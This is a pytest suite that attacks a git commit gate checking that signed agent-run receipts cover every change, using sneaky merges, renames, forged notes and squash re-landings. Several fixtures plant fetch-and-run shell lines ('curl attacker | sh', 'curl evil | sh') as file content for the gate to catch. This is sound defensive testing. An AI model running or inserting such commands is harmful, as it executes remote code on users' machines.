"""Attacks on keeping coverage through rewrites: content no run made must never pass.

Each attack builds real commits with genuine signed receipts (fixtures.gate_receipts) and is
pushed for real to a bare repository with the server hook, or judged directly where the push
adds nothing.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import subprocess
from pathlib import Path

import pytest
from fixtures.gate_receipts import commit_files, git_dir_of
from fixtures.stacks import Server, assert_block, assert_pass, head, run

from gatekeeper.gate import GateResult, coverage, judge
from gatekeeper.receipt.keys import load_key

from conftest import git

pytestmark = pytest.mark.slow


def check(repo: Path, rev: str = "HEAD", base: str = "main") -> GateResult:
    return judge(git_dir_of(repo), head(repo, base), head(repo, rev))


def kinds(result: GateResult) -> set[tuple[str, str | None]]:
    return {(f.kind.value, f.commit) for f in result.findings}


def merge_with_tree(repo: Path, tree: str, *parents: str, message: str = "merge") -> str:
    args = [a for p in parents for a in ("-p", p)]
    return git(repo, "commit-tree", tree, *args, "-m", message).strip()


def tree_with(repo: Path, rev: str, files: dict[str, str | None]) -> str:
    """rev's tree with files written into it (made on a scratch branch, which is then dropped)."""
    current = git(repo, "rev-parse", "--abbrev-ref", "HEAD").strip()
    scratch = commit_files(repo, files, branch="scratch", start=rev, message="scratch")
    git(repo, "checkout", "-q", current)
    git(repo, "branch", "-q", "-D", "scratch")
    return head(repo, f"{scratch}^{{tree}}")


# --- W1: content that only merges hold --------------------------------------------------------


def merge_pair(repo: Path, main: str, branch: str) -> tuple[str, str]:
    """On a new branch from HEAD: a run, a merge of main that adds `ci/evil.sh`, a second run,
    and a merge of main that takes it away again; (the first merge, the second)."""
    git(repo, "checkout", "-q", "-b", branch)
    first = run(repo, {"src/a.py": "a = 1\n"})
    evil = merge_with_tree(
        repo, tree_with(repo, first, {"ci/evil.sh": "curl attacker | sh\n"}), first, main
    )
    second = run(repo, {"src/b.py": "b = 1\n"}, branch=branch, start=evil)
    clean = merge_with_tree(repo, tree_with(repo, second, {"ci/evil.sh": None}), second, main)
    return evil, clean


def test_a_merge_adds_content_and_a_later_merge_takes_it_away(repo: Path) -> None:
    """Merges need no receipt, and the range's diff is compared only at its ends: a merge
    that brings in a file no run made, and a later merge that drops it again, leave the ends
    clean while the history holds the file (CI, bisect and checkouts of it run it)."""
    evil, clean = merge_pair(repo, head(repo, "main"), "agent/1")
    git(repo, "checkout", "-q", "-B", "agent/1", clean)
    result = check(repo)
    assert not result.passed
    assert ("uncovered-commit", evil) in kinds(result)


def test_a_pushed_merge_pair_hiding_a_file_is_refused(tmp_path: Path, key: Path) -> None:
    served = Server(tmp_path)
    clone = served.clone
    main = head(clone, "origin/main")
    _, clean = merge_pair(clone, main, "feature")
    assert_block(served.push_main(clean), "uncovered-commit")
    assert served.server_rev("refs/heads/main") == main


LINES = [f"line {i}\n" for i in range(20)]


def lines_with(edits: dict[int, str], lines: list[str] = LINES) -> str:
    return "".join(edits.get(i, line) for i, line in enumerate(lines))


def two_runs_merged(repo: Path) -> None:
    """Two runs from main, each editing another line of one file; the first merged into the
    second's branch, `two`, with git's clean merge."""
    base = commit_files(repo, {"src/list.txt": "".join(LINES)}, branch="main", start="main")
    git(repo, "checkout", "-q", "-b", "one")
    run(repo, {"src/list.txt": lines_with({0: "ONE\n"})})
    git(repo, "checkout", "-q", "-b", "two", base)
    run(repo, {"src/list.txt": lines_with({19: "TWO\n"})})
    git(repo, "merge", "-q", "--no-edit", "one")


def test_a_clean_merge_of_two_runs_editing_one_file_passes(repo: Path) -> None:
    """git combines both runs' edits to one file: the merge adds nothing of its own, and the
    file it makes is no run's result (the runs' claims, composed in a line, end elsewhere);
    so does a later run that writes the file again."""
    two_runs_merged(repo)
    merged = head(repo)
    text = (repo / "src/list.txt").read_text()
    assert text.startswith("ONE\n") and text.endswith("TWO\n")
    result = check(repo)
    assert result.passed, [f.message for f in result.findings]
    run(repo, {"src/list.txt": "rewritten\n"})
    result = check(repo)
    assert merged not in {f.commit for f in result.findings}
    assert result.passed, [f.message for f in result.findings]


def test_merging_main_that_edited_the_same_file_passes(repo: Path) -> None:
    """The target moved on with an edit to another line of the file a run edited, and the
    branch merged it (clean): the range's diff goes from the target's file to the combined
    one, which no receipt names (it was `change-differs`); a run after the merge passes too."""
    commit_files(repo, {"src/list.txt": "".join(LINES)}, branch="main", start="main")
    git(repo, "checkout", "-q", "-b", "agent/1")
    run(repo, {"src/list.txt": lines_with({1: "AGENT\n"})})
    commit_files(repo, {"src/list.txt": lines_with({18: "MAIN\n"})}, branch="main", start="main",
                 message="a person's fix on main")  # fmt: skip
    git(repo, "checkout", "-q", "agent/1")
    git(repo, "merge", "-q", "--no-edit", "main")
    assert "AGENT" in (repo / "src/list.txt").read_text()
    assert "MAIN" in (repo / "src/list.txt").read_text()
    result = check(repo)
    assert result.passed, [f.message for f in result.findings]
    run(repo, {"src/list.txt": lines_with({1: "AGENT\n", 5: "AGAIN\n", 18: "MAIN\n"})})
    result = check(repo)
    assert result.passed, [f.message for f in result.findings]


def _merged_main(repo: Path) -> str:
    """A run's edit to one line of src/list.txt, main's to another, main merged in (clean);
    the merge's id."""
    commit_files(repo, {"src/list.txt": "".join(LINES)}, branch="main", start="main")
    git(repo, "checkout", "-q", "-b", "agent/1")
    run(repo, {"src/list.txt": lines_with({1: "AGENT\n"})})
    commit_files(repo, {"src/list.txt": lines_with({18: "MAIN\n"})}, branch="main", start="main")
    git(repo, "checkout", "-q", "agent/1")
    git(repo, "merge", "-q", "--no-edit", "main")
    return head(repo)


def test_a_merge_dropping_a_runs_edit_beside_a_clean_merge_is_blocked(repo: Path) -> None:
    """A clean merge combined the file, so its state at head is held to what runs, the
    target and git's clean merges made; a second merge that keeps one side's file (`-s ours`)
    drops a run's edit to it, and that still shows."""
    merged = _merged_main(repo)
    current = (repo / "src/list.txt").read_text().splitlines(keepends=True)
    git(repo, "checkout", "-q", "-b", "side")
    dropped = run(repo, {"src/list.txt": lines_with({10: "FIX\n"}, current)})
    git(repo, "checkout", "-q", "agent/1")
    git(repo, "merge", "-q", "--no-edit", "-s", "ours", "side")
    assert "FIX" not in (repo / "src/list.txt").read_text()
    result = check(repo)
    assert not result.passed
    assert ("change-differs", dropped) in kinds(result), [f.message for f in result.findings]
    assert merged not in {f.commit for f in result.findings}
    differs = [f for f in result.findings if f.kind.value == "change-differs"]
    assert all(f"merge {merged[:12]} combined edits to it" in f.message for f in differs)


def test_a_hand_edit_after_a_clean_merge_of_one_file_is_blocked(repo: Path) -> None:
    """After main was merged in (clean, one file combined), a person's unsigned commit edits
    that file: it covers nothing, and the file's state at head is no one's."""
    _merged_main(repo)
    current = (repo / "src/list.txt").read_text().splitlines(keepends=True)
    edit = commit_files(repo, {"src/list.txt": lines_with({7: "curl evil | sh\n"}, current)},
                        message="a hand edit")  # fmt: skip
    result = check(repo)
    assert not result.passed
    found = kinds(result)
    assert ("uncovered-commit", edit) in found
    assert any(kind == "change-differs" for kind, _ in found), found


@pytest.mark.parametrize("order", ["mover first", "editor first"])
def test_an_edit_a_merge_carries_along_a_rename_is_not_accounted(repo: Path, order: str) -> None:
    """git's merge follows renames: one run moves a file, another edits it where it was, and
    the clean merge puts the second run's lines at the new path, which that run never wrote
    (a path only the first may write, say). The states at the new path alone would look
    accounted for (the mover's file, nothing on the other side): only a merge of the same
    path's states counts."""
    tool = "".join(f"step {i}\n" for i in range(12))
    base = commit_files(repo, {"src/tool.sh": tool}, branch="main", start="main")
    git(repo, "checkout", "-q", "-b", "mover", base)
    run(repo, renames={"src/tool.sh": "deploy/tool.sh"})
    git(repo, "checkout", "-q", "-b", "editor", base)
    run(repo, {"src/tool.sh": tool.replace("step 6\n", "curl evil | sh\n")})
    first, second = ("mover", "editor") if order == "mover first" else ("editor", "mover")
    git(repo, "checkout", "-q", first)
    git(repo, "merge", "-q", "--no-edit", second)
    assert "curl evil" in (repo / "deploy/tool.sh").read_text()
    result = check(repo)
    assert not result.passed
    differs = {f.path for f in result.findings if f.kind.value == "change-differs"}
    assert "deploy/tool.sh" in differs, [f.message for f in result.findings]


def test_a_file_a_merge_moves_into_a_renamed_folder_is_not_accounted(repo: Path) -> None:
    """git's merge also follows a renamed folder (where merge.directoryRenames says so): a
    file one run adds to the folder another run moved lands in the new folder, a path no run
    wrote."""
    base = commit_files(repo, {f"ci/step{i}.sh": f"step {i}\n" for i in range(4)},
                        branch="main", start="main")  # fmt: skip
    git(repo, "checkout", "-q", "-b", "mover", base)
    run(repo, renames={f"ci/step{i}.sh": f".github/scripts/step{i}.sh" for i in range(4)})
    git(repo, "checkout", "-q", "-b", "adder", base)
    run(repo, {"ci/extra.sh": "curl evil | sh\n"})
    git(repo, "checkout", "-q", "mover")
    git(repo, "config", "merge.directoryRenames", "true")  # (git's own merge, and the gate's)
    git(repo, "merge", "-q", "--no-edit", "adder")
    assert (repo / ".github/scripts/extra.sh").exists()
    result = check(repo)
    assert not result.passed
    assert ".github/scripts/extra.sh" in {f.path for f in result.findings}


def test_a_merge_git_makes_with_its_own_diff_is_taken_as_it_makes_it(repo: Path) -> None:
    """git's merge diffs with its histogram algorithm; `git merge-file` (myers, before git
    2.44) finds a conflict in these three states where git's merge is clean, so the file is
    merged again by git's own merge, not by merge-file."""
    base = commit_files(repo, {"src/f.txt": "return x;\na\n}\nc\na\nc\na\nc\n}\n"},
                        branch="main", start="main")  # fmt: skip
    git(repo, "checkout", "-q", "-b", "one", base)
    run(repo, {"src/f.txt": "return x;\na\n}\nc\na\nc\nc\na\n\n}\n"})
    git(repo, "checkout", "-q", "-b", "two", base)
    run(repo, {"src/f.txt": "return x;\na\n}\na\na\nc\nc\n}\n"})
    git(repo, "merge", "-q", "--no-edit", "one")
    objects = git(repo, "count-objects", "-v")
    result = check(repo)
    assert result.passed, [f.message for f in result.findings]
    assert git(repo, "count-objects", "-v") == objects  # (its scratch objects went elsewhere)


def test_a_union_merge_this_machines_attributes_choose_is_not_gits_clean_merge(
    repo: Path,
) -> None:
    """Two runs change the same line; the user's own attributes merge the file with `union`,
    which keeps both lines and reports no conflict. The gate judges git's merge with git's
    defaults, in a scratch repository (no config or attributes of this machine), so that file
    is no clean merge; and judging a merge writes nothing into the repository."""
    base = commit_files(repo, {"src/u.txt": "".join(LINES)}, branch="main", start="main")
    git(repo, "checkout", "-q", "-b", "one", base)
    run(repo, {"src/u.txt": lines_with({4: "ONE\n"})})
    git(repo, "checkout", "-q", "-b", "two", base)
    run(repo, {"src/u.txt": lines_with({4: "TWO\n"})})
    (repo / ".git" / "info").mkdir(exist_ok=True)
    (repo / ".git" / "info" / "attributes").write_text("* merge=union\n")
    git(repo, "config", "merge.renormalize", "true")
    git(repo, "merge", "-q", "--no-edit", "one")
    text = (repo / "src/u.txt").read_text()
    assert "ONE\n" in text and "TWO\n" in text
    objects = git(repo, "count-objects", "-v")
    result = check(repo)
    assert not result.passed
    assert ("uncovered-commit", head(repo)) in kinds(result), [f.message for f in result.findings]
    assert git(repo, "count-objects", "-v") == objects


def test_alternates_are_read_and_written_as_git_quotes_them(tmp_path: Path) -> None:
    """split_alternates reads git's own quoting (a folder holding `:` or beginning with `"`
    is C-quoted), and what quote_alternate writes git reads back as the same folder."""
    from gatekeeper.git import quote_alternate, split_alternates

    odd = tmp_path / 'a:b "c\\d \u00e9'
    git(tmp_path, "init", "-q", "--bare", str(odd))
    blob = git(odd, "hash-object", "-w", "--stdin", input=b"hi\n").strip()
    plain = tmp_path / "plain.git"
    git(tmp_path, "init", "-q", "--bare", str(plain))
    quoted = quote_alternate(str(odd / "objects"))
    assert split_alternates(f"{plain}:{quoted}:/x") == [str(plain), str(odd / "objects"), "/x"]
    env = {**os.environ, "GIT_ALTERNATE_OBJECT_DIRECTORIES": quoted}
    shown = subprocess.run(["git", "--git-dir", str(plain), "cat-file", "-p", blob], env=env,
                           capture_output=True, check=True)  # fmt: skip
    assert shown.stdout == b"hi\n"


def _chained(repo: Path, tmp_path: Path, links: int) -> Path:
    """A bare repository that reads repo's objects through a chain of `links` stores, each
    naming the one before in objects/info/alternates, with repo's branches and notes."""
    store = git_dir_of(repo) / "objects"
    tmp_path.mkdir(exist_ok=True)
    for n in range(1, links + 1):
        chained = tmp_path / f"chain{n}.git"
        git(tmp_path, "init", "-q", "--bare", str(chained))
        (chained / "objects/info/alternates").write_text(f"# store {n}\n{store}\n")
        store = chained / "objects"
    for ref in ("refs/heads/main", "refs/heads/two", "refs/notes/gatekeeper"):
        (chained / ref).parent.mkdir(parents=True, exist_ok=True)
        (chained / ref).write_text(head(repo, ref) + "\n")  # (update-ref would look it up)
    return chained


def test_a_clean_merge_whose_objects_lie_at_gits_last_alternates_depth_passes(
    repo: Path, tmp_path: Path
) -> None:
    """git reads a repository's alternates six stores deep. The scratch repository a merge is
    judged in reaches the repository's store through one more level, so the stores git reads
    last (here, all the objects) are given to it as stand-ins: a clean merge passes there as
    it does one level shallower. One level deeper, git itself no longer reads them."""
    two_runs_merged(repo)
    for links, readable in ((5, True), (6, True), (7, False)):
        chained = _chained(repo, tmp_path / str(links), links)
        typed = subprocess.run(["git", "--git-dir", str(chained), "cat-file", "-t", head(repo, "two")],
                               capture_output=True, text=True)  # fmt: skip
        assert (typed.stdout.strip() == "commit") is readable, typed.stderr
        if readable:
            result = judge(chained, head(repo, "main"), head(repo, "two"))
            assert result.passed, [f.message for f in result.findings]


def test_stand_in_stores_read_no_alternates_past_gits_depth(repo: Path, tmp_path: Path) -> None:
    """git reads the alternates file of the last store it reads, then ignores what it names
    (too deep). The stand-in for that store names no alternates, so neither the gate nor git
    in its scratch repository opens a store's file past that (a fifo there would hang them)."""
    from gatekeeper.gate.merges import last_stores

    two_runs_merged(repo)
    chained = _chained(repo, tmp_path, 6)
    deepest = git_dir_of(repo) / "objects"
    assert last_stores(str(chained / "objects"), ()) == [str(deepest)]
    past = tmp_path / "past.git"
    git(tmp_path, "init", "-q", "--bare", str(past))
    (deepest / "info" / "alternates").write_text(f"{past / 'objects'}\n")
    os.mkfifo(past / "objects" / "info" / "alternates")
    result = judge(chained, head(repo, "main"), head(repo, "two"))
    assert result.passed, [f.message for f in result.findings]


@pytest.mark.parametrize("folder", ["plain", "at:colon"])
def test_a_merge_commit_of_a_run_into_main_that_moved_on_is_accepted(
    tmp_path: Path, key: Path, folder: str
) -> None:
    """A person merges an agent branch into main with a merge commit (clean) after another
    run, editing another line of the same file, landed there: the server's hook accepts it
    as the local check does (it refused: `change-differs`). The scratch repository the merge
    is judged in reads the repository's objects as an alternate: a `:` in its path (git's
    separator in GIT_ALTERNATE_OBJECT_DIRECTORIES, where git quotes such a path) is the same
    folder, locally and in the server's quarantine."""
    served = Server(tmp_path / folder)
    clone = served.clone
    served.advance_main({"src/list.txt": "".join(LINES)})
    git(clone, "checkout", "-q", "-B", "agent/1", "origin/main")
    run(clone, {"src/list.txt": lines_with({1: "AGENT\n"})})
    served.advance_main({"src/list.txt": lines_with({18: "OTHER RUN\n"})})
    git(clone, "checkout", "-q", "-B", "landing", "origin/main")
    git(clone, "merge", "-q", "--no-edit", "agent/1")
    result = check(clone, base="origin/main")
    assert result.passed, [f.message for f in result.findings]
    merge = head(clone)
    assert "AGENT" in (clone / "src/list.txt").read_text()
    assert_pass(served.push_main())
    assert served.server_rev("refs/heads/main") == merge


def forged_note_lines(repo: Path, commit: str, count: int, salt: str, keyid: str = "") -> list[str]:
    """Envelope lines that index like receipts of runs whose agent committed and touch the
    paths commit changes, each naming another (made-up) result commit; never verifiable."""
    from gatekeeper.receipt.changes import as_dict, changes_between

    changes = [as_dict(c) for c in changes_between(git_dir_of(repo), f"{commit}^", commit)]
    lines = []
    for i in range(count):
        fake = hashlib.sha1(f"{salt}{i}".encode()).hexdigest()
        payload = {
            "subject": [{"digest": {"gitCommit": fake, "gitTree": fake}}],
            "predicate": {
                "base": {"commit": fake, "tree": fake},
                "changes": changes,
                "agent_commits": [fake],
            },
        }
        envelope = {
            "payloadType": "application/vnd.in-toto+json",
            "payload": base64.b64encode(json.dumps(payload).encode()).decode(),
            "signatures": [{"keyid": keyid, "sig": base64.b64encode(bytes(64)).decode()}],
        }
        lines.append(json.dumps(envelope, separators=(",", ":")))
    return lines


@pytest.mark.parametrize("signed_as", ["nobody", "trusted-keyid"])
def test_forged_notes_do_not_make_the_gate_call_git_per_forged_id(
    repo: Path, signed_as: str
) -> None:
    """A rebased commit (no receipt of its own) makes the gate read notes on other commits,
    which anyone who may push can write. 20,000 forged lines each naming another result commit
    must not cost a git process each: the gate finishes in seconds (also when each names the
    trusted key, so its signature is checked)."""
    keyid = load_key().public.keyid if signed_as == "trusted-keyid" else ""
    git(repo, "checkout", "-q", "-b", "agent/1")
    original = run(repo, {"src/a.py": "a = 1\n"})
    commit_files(repo, {"docs/news.md": "news\n"}, branch="main", start="main")
    git(repo, "rebase", "-q", "main", "agent/1")
    for n in range(20):
        blob = git(repo, "hash-object", "-w", "--stdin", input=f"holder {n}\n".encode()).strip()
        text = "\n".join(forged_note_lines(repo, original, 1000, f"{n}-", keyid)) + "\n"
        git(repo, "notes", "--ref=refs/notes/gatekeeper", "add", "-f", "-F", "-", blob,
            input=text.encode())  # fmt: skip
    started = []
    real_init = subprocess.Popen.__init__

    def counted(self, *args, **kwargs):  # type: ignore[no-untyped-def]
        started.append(args[0] if args else kwargs.get("args"))
        real_init(self, *args, **kwargs)

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(subprocess.Popen, "__init__", counted)
        result = check(repo)
    assert result.passed, [f.message for f in result.findings]  # the real receipt still covers
    assert len(started) < 50, f"the gate started {len(started)} processes"


def test_a_merge_committed_with_its_conflict_markers_is_uncovered(repo: Path) -> None:
    """git's own conflicted merge (markers and all) is not a clean merge of the parents."""
    main = head(repo, "main")
    git(repo, "checkout", "-q", "-b", "one")
    one = run(repo, {"src/app.py": "print('one')\n"})
    git(repo, "checkout", "-q", "-b", "agent/1", main)
    two = run(repo, {"src/app.py": "print('two')\n"})
    conflicted = git(repo, "merge-tree", "--write-tree", two, one, check=False).split()[0]
    merged = merge_with_tree(repo, conflicted, two, one)
    assert b"<<<<<<<" in git(repo, "cat-file", "-p", f"{merged}:src/app.py").encode()
    git(repo, "checkout", "-q", "-B", "agent/1", merged)
    assert ("uncovered-commit", merged) in kinds(check(repo))


# --- W4: a run that landed as a squash still covered its change once more ---------------------


@pytest.mark.parametrize("landing", ["squash", "rebase"])
def test_a_run_landed_by_squash_does_not_cover_its_change_again(repo: Path, landing: str) -> None:
    """The run's work reached main under a new id (the forge's "squash and merge", or "rebase
    and merge" after main moved on), so its own result commit is not in main's history. A
    later run reverts it and a hand commit makes the landed run's exact change again: spent."""
    main = head(repo, "main")
    git(repo, "checkout", "-q", "-b", "work")
    landed = run(repo, {"src/feature.py": "x = 1\n"})
    if landing == "rebase":
        main = run(repo, {"docs/news.md": "news\n"}, branch="main-work", start=main)
        git(repo, "checkout", "-q", "work")
    tree = tree_with(repo, main, {"src/feature.py": "x = 1\n"})
    copy = git(repo, "commit-tree", tree, "-p", main, "-m", "landed").strip()
    git(repo, "checkout", "-q", "main")
    git(repo, "reset", "-q", "--hard", copy)
    git(repo, "checkout", "-q", "-b", "agent/1")
    run(repo, {"src/feature.py": None})
    again = commit_files(repo, {"src/feature.py": "x = 1\n"}, message="by hand")
    uncovered = {f.commit for f in check(repo).findings if f.kind.value == "uncovered-commit"}
    assert uncovered == {again}
    assert landed != copy


# --- W5: genuine receipts that make the chain search branch, for many commits -------------------


def test_many_hand_commits_over_flip_flopping_runs_are_judged_in_bounded_time(
    repo: Path,
) -> None:
    """An agent may make many genuine runs: 40 on a side branch that flip one file between two
    states give each state 20 runs that produce it and 20 that start from it, so the search for
    a chain of runs ending in a state branches 20 ways at every step. 40 hand commits that each
    flip the file must not cost the search's full bound each: the bound is the judgement's."""
    main = head(repo, "main")
    git(repo, "checkout", "-q", "-b", "flips")
    for i in range(40):
        run(repo, {"src/flip.txt": "on\n" if i % 2 == 0 else "off\n"})
    git(repo, "checkout", "-q", "-b", "agent/1", main)
    run(repo, {"src/flip.txt": "off\n", "src/other.py": "other\n"})
    hand = [
        commit_files(
            repo, {"src/flip.txt": "on\n" if i % 2 == 0 else "off\n"}, message=f"hand {i}"
        )  # fmt: skip
        for i in range(40)
    ]
    steps = []
    real_anchored = coverage._Matcher.anchored

    def counted(self, *args, **kwargs):  # type: ignore[no-untyped-def]
        steps.append(1)
        return real_anchored(self, *args, **kwargs)

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(coverage._Matcher, "anchored", counted)
        result = check(repo)
    assert {f.commit for f in result.findings if f.kind.value == "uncovered-commit"} == set(hand)
    # Each step of the search tries one chain's anchor: within the judgement's bound of
    # 100,000 (per commit, 40 commits would take up to 40 times the per-commit 20,000).
    assert len(steps) <= 100_000 + 10 * len(hand), len(steps)


def test_an_octopus_merge_with_content_of_its_own_is_uncovered(repo: Path) -> None:
    """The same with three parents (git's octopus merge), each a covered run."""
    main = head(repo, "main")
    tips = []
    for name in ("a", "b", "c"):
        git(repo, "checkout", "-q", "-B", f"agent/{name}", main)
        tips.append(run(repo, {f"src/{name}.py": f"{name} = 1\n"}))
    git(repo, "checkout", "-q", "agent/a")
    git(repo, "merge", "-q", "--no-edit", "agent/b", "agent/c")
    clean = head(repo)
    assert len(git(repo, "rev-list", "--parents", "-n1", clean).split()) == 4
    assert check(repo).passed  # git's own octopus merge adds nothing
    evil = merge_with_tree(repo, tree_with(repo, clean, {"src/a.py": "a = 1\nimport os\n"}), *tips)
    git(repo, "checkout", "-q", "-B", "agent/a", evil)
    assert ("uncovered-commit", evil) in kinds(check(repo))
